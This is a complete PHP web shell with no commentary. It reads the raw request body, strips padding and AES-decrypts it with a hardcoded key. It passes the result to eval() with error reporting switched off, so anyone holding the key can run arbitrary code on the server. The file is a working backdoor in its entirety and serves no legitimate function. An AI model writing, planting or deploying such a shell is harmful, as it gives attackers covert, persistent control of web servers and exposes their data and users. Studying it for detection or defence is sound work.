<?php
@error_reporting(0);
function Decrypt($data)
{
    $magicNum=hexdec(substr(md5("7cff8c4898133530"),0,2))%16;
    $data=substr($data,0,strlen($data)-$magicNum);
    return openssl_decrypt(base64_decode($data), "AES-128-ECB", "7b30cc252f50afac", OPENSSL_RAW_DATA);
}
$post=Decrypt(file_get_contents("php://input"));
eval($post);
